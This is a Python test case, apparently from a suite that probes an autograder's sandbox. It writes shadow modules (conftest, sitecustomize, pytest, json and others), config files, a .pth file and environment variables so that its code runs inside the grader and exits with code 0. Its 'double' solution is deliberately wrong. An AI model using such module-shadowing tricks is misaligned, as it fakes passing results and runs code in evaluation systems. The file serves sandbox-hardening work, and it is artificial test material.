# technique: 31
# gains: code in the grader, by files that Python, pytest and our worker look for by name
# stopped by: the folder comes last in the path, and only in the worker; nothing else ever sees it
# shown: never, the naive grader reads no such names; modules_shadowed.py is shown
import importlib
import os
import sys

CODE = "import os\nopen('/tmp/@LEFT@', 'w')\nraise SystemExit(0)\n"
for name in ("conftest", "sitecustomize", "usercustomize", "msgpack", "json", "autograder", "pytest", "psutil",
             "tremplin_worker", "encodings", "site", "IPython", "test_v01", "setup"):
    open(f"{name}.py", "w").write(CODE)
    os.makedirs("__pycache__", exist_ok=True)
    open(f"__pycache__/{name}.cpython-{sys.version_info[0]}{sys.version_info[1]}.pyc", "wb").write(b"\0" * 99)
for name in ("pytest.ini", "tox.ini", "setup.cfg", "pyproject.toml", "x.pth", "pyvenv.cfg", ".coveragerc"):
    open(name, "w").write("[pytest]\naddopts = -p conftest\nimport os; open('/tmp/@LEFT@', 'w')\n")
os.environ.update(PYTHONSTARTUP="conftest.py", PYTHONPATH=os.getcwd(), PYTEST_PLUGINS="conftest")
sys.path.insert(0, os.getcwd())
sys.path_hooks.clear()
sys.path_importer_cache.clear()
importlib.invalidate_caches()
# %% double
def double(n):
    import conftest
    return n
